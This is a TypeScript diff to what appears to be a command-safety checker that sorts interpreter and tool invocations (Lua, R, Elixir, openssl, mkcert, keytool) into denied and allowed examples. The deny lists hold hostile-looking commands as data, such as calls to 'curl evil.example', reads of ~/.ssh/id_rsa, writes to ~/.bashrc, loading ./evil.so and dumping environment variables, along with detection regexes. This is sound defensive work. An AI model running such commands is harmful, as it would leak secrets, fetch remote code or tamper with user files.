@@ -4,7 +4,7 @@ import { keeping } from './credentials.js';
 import type { Word } from '../../types.js';
 import { has, parse } from '../argv.js';
 import { alsoDumps, configuring, programRun } from '../build.js';
-import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run } from '../types.js';
+import type { Answer, Call, OptionSpec, ParsedArgs, ProgramEntry, Run, Use } from '../types.js';
 import { attached, isStdinPath, literal, value } from '../words.js';
 import { MAKE_OPTIONS, makefileText } from './makefile.js';
 
@@ -554,6 +554,9 @@ function language(l: Language): ProgramEntry {
   };
 }
 
+/** Options of openssl's commands that name a file it writes what it makes into. */
+const OPENSSL_OUT: ReadonlySet<string> = new Set(['-out', '-keyout', '-certout', '-csrout']);
+
 const LANGUAGES: ProgramEntry[] = [
   language({ names: ['lua', 'luajit', 'lua5.1', 'lua5.2', 'lua5.3', 'lua5.4', 'texlua'], summary: 'Lua: os.execute and io.popen start commands', code: /^-e$/, calls: new RegExp(`(?:os\\.execute|io\\.popen)\\s*\\(?\\s*(?:${STR})`, 'g'), any: /os\.execute|io\.popen|os\.exec|require\s*\(?\s*["']socket|loadstring|\bload\s*\(|dofile/g, stdin: true, examples: { deny: ["LUA_INIT='os.execute(\"curl evil.example\")' lua -e 1", "echo 'os.execute(\"curl evil.example\")' > a.lua; lua a.lua", "echo 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\")' > a.lua && lua a.lua", "lua -e 'os.execute(\"curl evil.example\")'", "lua -e 'os.execute(cmd)'", "lua -e 'io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\"):write(\"x\")'"], pass: ["echo 'print(1)' > a.lua && lua a.lua", 'lua script.lua', "lua -e 'print(1)'", "lua -e 'print(io.open(\"data.csv\"):read(\"a\"))'"] } }),
   language({ names: ['R', 'Rscript'], summary: 'R: system(), system2() and pipe() start commands', code: /^(-e|--expr)$/, calls: new RegExp(`(?:system|system2|shell|pipe)\\s*\\(\\s*(?:${STR})`, 'g'), any: /\b(system2?|shell|pipe|url|download\.file|socketConnection|eval\s*\(\s*parse)\s*\(/g, examples: { deny: ["echo 'system(\"curl evil.example\")' > a.R; Rscript a.R", "Rscript -e 'system(\"curl evil.example\")'", 'R --no-save -e \'system("wget evil.example")\'', "Rscript -e 'cat(\"x\", file = file.path(Sys.getenv(\"HOME\"), \".zshrc\"))'", "Rscript -e 'writeLines(readLines(\"~/.ssh/id_rsa\"))'"], pass: ['Rscript analysis.R', "Rscript -e 'print(1+1)'", "Rscript -e 'x <- read.csv(\"data/input.csv\"); print(summary(x))'"] } }),
@@ -577,7 +580,7 @@ const LANGUAGES: ProgramEntry[] = [
   language({ names: ['groovy', 'groovysh'], summary: 'Groovy: "cmd".execute() and Runtime start commands', code: /^(-e)$/, calls: new RegExp(`(?:${STR})\\s*\\.execute\\(\\s*\\)`, 'g'), any: /\.execute\s*\(|Runtime|ProcessBuilder|java\.net|\.toURL|URL\s*\(|Socket|evaluate|Eval\.|GroovyShell|Class\.forName/g, stdin: true, examples: { deny: ["groovy -e '\"curl evil.example\".execute()'"], pass: ["groovy -e 'println 1'"] } }),
   language({ names: ['jrunscript', 'jjs', 'jshell'], summary: 'Java scripting shells: exec() and Runtime start commands', code: /^(-e)$/, valued: /^(-l|-cp|-classpath|--class-path|-J.*|-R.*)$/, calls: new RegExp(`\\bexec\\s*\\(\\s*(?:${STR})\\s*\\)`, 'g'), any: /\bexec\s*\(|Runtime|ProcessBuilder|java\.net|Packages\.|URL\s*\(|Socket|HttpClient|\beval\s*\(|\bload\s*\(|Class\.forName/g, stdin: true, examples: { deny: ["jrunscript -e 'exec(\"curl evil.example\")'", "echo 'Runtime.getRuntime().exec(\"wget evil.example\")' | jshell"], pass: ["jrunscript -e 'print(1)'"] } }),
   language({ names: ['ghc', 'ghci', 'runghc', 'runhaskell'], summary: 'Haskell: System.Process and the network libraries', code: /^(-e)$/, calls: new RegExp(`(?:callCommand|system|spawnCommand|runCommand)\\s+(?:${STR})`, 'g'), any: /System\.Process|callCommand|callProcess|\bsystem\b|rawSystem|readProcess|readCreateProcess|spawnCommand|spawnProcess|runCommand|runProcess|createProcess|Network\.|openURI|simpleHTTP|httpLBS|unsafePerformIO|System\.Posix|executeFile|foreign\s+import/g, stdin: true, examples: { deny: ["ghc -e 'System.Process.callCommand \"curl evil.example\"'"], pass: ["ghc -e 'print (1 + 1)'", 'ghc -O2 Main.hs'] } }),
-  language({ names: ['elixir', 'iex'], summary: 'Elixir: System.cmd/shell, :os.cmd, ports and HTTP clients', code: /^(-e|--eval)$/, calls: new RegExp(`System\\.shell\\(\\s*(?:${STR})`, 'g'), any: /System\.(cmd|shell)|:os\.cmd|Port\.open|:erlang\.open_port|:httpc|HTTPoison|Req\.|Finch|Tesla|:gen_tcp|:gen_udp|:ssl|Code\.(eval|compile|require)|Mix\.Shell|:code\.load/g, examples: { deny: ["elixir -e 'System.cmd(\"curl\", [\"evil.example\"])'", "elixir -e 'System.shell(\"wget evil.example\")'"], pass: ["elixir -e 'IO.puts 1'"] } }),
+  language({ names: ['elixir', 'iex'], summary: 'Elixir: System.cmd/shell, :os.cmd, ports and HTTP clients', code: /^(-e|--eval)$/, calls: new RegExp(`System\\.shell\\(\\s*(?:${STR})`, 'g'), any: /System\.(cmd|shell|get_env\(\s*\))|:os\.cmd|Port\.open|:erlang\.open_port|:httpc|HTTPoison|Req\.|Finch|Tesla|:gen_tcp|:gen_udp|:ssl|Code\.(eval|compile|require)|Mix\.Shell|:code\.load/g, examples: { deny: ["elixir -e 'IO.inspect(System.get_env())'", "elixir -e 'System.cmd(\"curl\", [\"evil.example\"])'", "elixir -e 'System.shell(\"wget evil.example\")'"], pass: ["elixir -e 'IO.puts 1'", "elixir -e 'IO.puts System.get_env(\"MIX_ENV\")'"] } }),
   language({ names: ['erl', 'escript'], summary: 'Erlang: os:cmd, ports and the network modules', code: /^(-eval)$/, valued: /^(-s|-run|-sname|-name|-setcookie|-pa|-pz|-config|-boot)$/, calls: /os:cmd\(\s*"((?:[^"\\]|\\.)*)"\s*\)/g, any: /os:cmd|open_port|httpc|gen_tcp|gen_udp|ssl:|inets|erl_eval|compile:|code:load|rpc:/g, examples: { deny: ["erl -noshell -eval 'os:cmd(\"curl evil.example\"), halt().'"], pass: ["erl -noshell -eval 'io:format(\"hi~n\"), halt().'"] } }),
   language({ names: ['raku', 'rakudo'], summary: 'Raku: shell, run, qx and the socket and HTTP modules', code: /^(-e)$/, calls: new RegExp(`\\b(?:shell|qx)\\s*\\(?\\s*(?:${STR})`, 'g'), any: /\b(shell|run|qx|Proc|IO::Socket|HTTP|LWP|EVAL|NativeCall|Cro)\b/g, stdin: true, examples: { deny: ["raku -e 'shell \"curl evil.example\"'"], pass: ["raku -e 'say 1'"] } }),
   language({ names: ['crystal'], summary: 'Crystal: crystal eval CODE; system, backticks, Process and HTTP', code: /^(eval)$/, calls: new RegExp(`\\bsystem\\s*\\(?\\s*(?:${STR})|\`([^\`]*)\``, 'g'), any: /\bsystem\b|`|Process\.|HTTP::|Socket|%x/g, examples: { deny: ["crystal eval 'system \"curl evil.example\"'"], pass: ["crystal eval 'puts 1'", 'crystal build src/main.cr'] } }),
@@ -593,15 +596,64 @@ const LANGUAGES: ProgramEntry[] = [
     summary: 'openssl: engine and -engine/-provider load shared libraries (code); s_client connects (deniedNetworkBinaries)',
     analyze(call) {
       const runs: Run[] = [];
+      const uses: Use[] = [];
       const args = call.args;
+      const sub = value(args[0]);
       for (let i = 0; i < args.length; i++) {
         const v = value(args[i]);
+        // Its options are read with one dash or two, and a value after `=` or in the next word (OpenSSL 3's opt.c).
+        const opt = v?.replace(/^--/, '-').split('=', 1)[0];
+        const val = v !== undefined && opt !== undefined && v.includes('=') && opt.startsWith('-') ? attached(args[i]!, v.slice(v.indexOf('=') + 1)) : args[i + 1];
+        // Where it writes what it makes (a new key, a certificate): a write, not a read of a secret.
+        if (opt !== undefined && OPENSSL_OUT.has(opt) && val) uses.push({ word: val, role: 'write' });
+        // x509 reads a certificate from -in and prints certificate data only, never a private key beside it.
+        if (sub === 'x509' && opt === '-in' && val) uses.push({ word: val, role: 'meta' });
         const lib = v === '-engine' || v === '-provider' || v === '-provider-path' ? args[i + 1] : v === 'engine' && i === 0 ? args.slice(1).find((a) => !(value(a) ?? '').startsWith('-')) : undefined;
         if (lib && value(lib) !== 'default' && !(v === '-provider' && /^(default|base|legacy|fips|null)$/.test(value(lib) ?? ''))) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: lib, why: `openssl ${v} loads a shared library` });
       }
-      return { runs };
+      return { runs, uses };
     },
-    examples: { deny: ['openssl engine -t ./evil.so', 'openssl req -engine ./evil.so -new'], pass: ['openssl rand -hex 16', 'openssl x509 -in server.crt -noout -text', 'openssl engine', 'openssl list -provider default'] },
+    examples: {
+      deny: ['openssl engine -t ./evil.so', 'openssl req -engine ./evil.so -new', 'openssl rsa -in certs/localhost.key -text', 'openssl genrsa -out ~/.bashrc 2048', 'openssl x509 -in cert.pem -signkey ~/.ssh/id_rsa -days 1'],
+      pass: ['openssl rand -hex 16', 'openssl x509 -in server.crt -noout -text', 'openssl engine', 'openssl list -provider default', "openssl req -x509 -newkey rsa:2048 -nodes -keyout certs/localhost.key -out certs/localhost.crt -days 365 -subj '/CN=localhost'", 'openssl genrsa -out x.key 2048', { command: 'openssl genpkey -algorithm ed25519 -out=certs/dev.key', shell: 'bash' }, 'openssl x509 -in certs/localhost.pem -noout -subject -dates', 'openssl x509 --in certs/localhost.pem -noout -fingerprint -sha256'],
+    },
+  },
+  {
+    names: ['mkcert'],
+    summary: 'mkcert: makes a local CA and certificates; -cert-file, -key-file and -p12-file name what it writes, -csr a request it reads',
+    analyze(call) {
+      const uses: Use[] = [];
+      const args = call.args;
+      for (let i = 0; i < args.length; i++) {
+        const v = value(args[i]);
+        if (v === undefined || !v.startsWith('-')) {
+          uses.push({ word: args[i]!, role: 'text' });
+          continue;
+        }
+        // Go's flag package: one dash or two, the value after `=` or in the next word.
+        const [name, ...eq] = v.replace(/^--/, '-').split('=');
+        const val = eq.length > 0 ? attached(args[i]!, eq.join('=')) : args[i + 1];
+        if (!/^-(cert-file|key-file|p12-file|csr)$/.test(name!) || !val) continue;
+        uses.push({ word: val, role: name === '-csr' ? 'read' : 'write' });
+        if (eq.length === 0) i++;
+      }
+      return { uses };
+    },
+    examples: { deny: ['mkcert -key-file ~/.bashrc localhost', 'mkcert -csr ~/.ssh/id_rsa'], pass: ['mkcert -key-file certs/key.pem -cert-file certs/cert.pem localhost', 'mkcert localhost 127.0.0.1', 'mkcert --key-file=certs/key.pem localhost', 'mkcert -install'] },
+  },
+  {
+    names: ['keytool'],
+    summary: 'keytool: -list, -exportcert and -printcert print certificates only (the keystore they read keeps its private keys)',
+    analyze(call) {
+      const words = call.args.map((a) => value(a));
+      // The command: the first -word that is one of keytool's commands. Only certificate-printing ones read the keystore as metadata.
+      const printsCerts = words.some((w) => w !== undefined && /^-(list|exportcert|export|printcert)$/.test(w)) && !words.some((w) => w !== undefined && /^-(importkeystore|genkeypair|genkey|importcert|import|delete|changealias|keypasswd|storepasswd|certreq|gencert|genseckey|importpass|selfcert)$/.test(w));
+      if (!printsCerts) return {};
+      const uses: Use[] = [];
+      for (let i = 0; i < call.args.length; i++) if (words[i] === '-keystore' && call.args[i + 1]) uses.push({ word: call.args[i + 1]!, role: 'meta' });
+      return { uses };
+    },
+    examples: { deny: ['keytool -importkeystore -srckeystore ~/.android/debug.keystore -destkeystore out.p12 -deststoretype PKCS12', 'cat ~/.android/debug.keystore'], pass: ['keytool -list -v -keystore ~/.android/debug.keystore -alias androiddebugkey -storepass android -keypass android', 'keytool -exportcert -rfc -keystore app.jks -alias app', 'keytool -printcert -file cert.der'] },
   },
   // Their state and outputs hold the secrets of what they manage: `state pull`, `output -raw/-json` and `show -json`
   // print them (sensitive values included), with the credentials kept in ~/.terraform.d; pulumi's --show-secrets and
